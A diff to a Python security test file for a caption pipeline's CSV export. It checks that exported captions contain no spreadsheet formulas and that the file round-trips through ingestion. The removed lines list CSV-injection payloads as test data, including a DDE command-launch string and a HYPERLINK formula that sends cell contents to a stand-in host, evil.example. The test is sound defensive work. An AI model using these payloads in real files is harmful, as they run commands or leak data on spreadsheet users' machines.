@@ -1,4 +1,4 @@
-"""captions.csv in a spreadsheet: no cell is a formula, and TFX still reads the same words."""
+"""captions.csv holds what was ingested, and in a spreadsheet no cell of it is a formula."""
 
 import csv
 from dataclasses import replace
@@ -10,17 +10,16 @@ from hypothesis import strategies as st
 
 from captionflow.captions import clean_caption
 from captionflow.csv_export import FILE, export_csv, without_formulas
-from tests.test_preprocess import CAPTION, ingest_records
+from captionflow.ingest import ingest
+from captionflow.parameters import IngestParameters
+from captionflow.records import ImageCaption, to_json_line
+from captionflow.sources import COLUMNS
+from tests.ingesting import CAPTION, ingest_records
+from tests.spreadsheets import ATTACKS
 
 pytestmark = pytest.mark.security
 
 FORMULAS = "=+-@＝＋－＠\t\r\0"
-ATTACKS = [
-    "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)",
-    '=HYPERLINK("http://evil.example/?"&A1,"a dog")', "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
-    '"=1+1', '" =1+1"', "“=1+1”", "\u200b=1+1", "\0=1+1", "\0", "A dog;=1+1", 'A dog; "=1+1"', "a;;-1",
-    "a,=1+1", 'a",=1+1', "a\t=1+1", "see http://a.example/;=1+1 now",
-]  # fmt: skip
 
 
 def exported(tmp_path: Path, **attack: str) -> str:
@@ -58,15 +57,14 @@ def test_the_words_stay_the_same(text: str) -> None:
     assert without_formulas(without_formulas(text)) == without_formulas(text)
 
 
-def test_tfx_reads_the_same_words(tmp_path: Path) -> None:
-    from tfx_bsl.coders.csv_decoder import ParseCSVLine
-
-    from tfx_pipeline.features import clean
-
-    records = [replace(CAPTION, id=i, image_id=i, caption=attack) for i, attack in enumerate(ATTACKS)]
-    lines = Path(export_csv(ingest_records(records, tmp_path), str(tmp_path / "csv")), FILE).read_text().splitlines()
-    parser = ParseCSVLine(",")
-    parser.setup()
-    cells = [cells for line in lines[1:] for cells, _ in parser.process(line)]
-    assert [int(row[1]) for row in cells] == list(range(len(ATTACKS)))
-    assert [text.decode() for text in clean([row[2] for row in cells]).numpy()] == list(map(clean_caption, ATTACKS))
+def test_the_csv_holds_what_was_ingested(tmp_path: Path) -> None:
+    texts = ['He said "hi", twice', "two\nlines \t and  blanks", "ünï"]
+    records = [replace(CAPTION, id=i, caption=text) for i, text in enumerate(texts)]
+    uri = export_csv(ingest_records(records, tmp_path), str(tmp_path / "csv"))
+    lines = Path(uri, FILE).read_text().splitlines()
+    assert lines[0] == ",".join(COLUMNS)
+    assert len(lines) == 4
+    again = Path(ingest(str(tmp_path / "again"), IngestParameters(sources=(f"{uri}/{FILE}",))), "captions.jsonl")
+    expected = [replace(record, caption=" ".join(record.caption.split())) for record in records]
+    assert again.read_bytes() == b"".join(map(to_json_line, expected))
+    assert ImageCaption.from_json(again.read_bytes().splitlines()[0]).caption == texts[0]
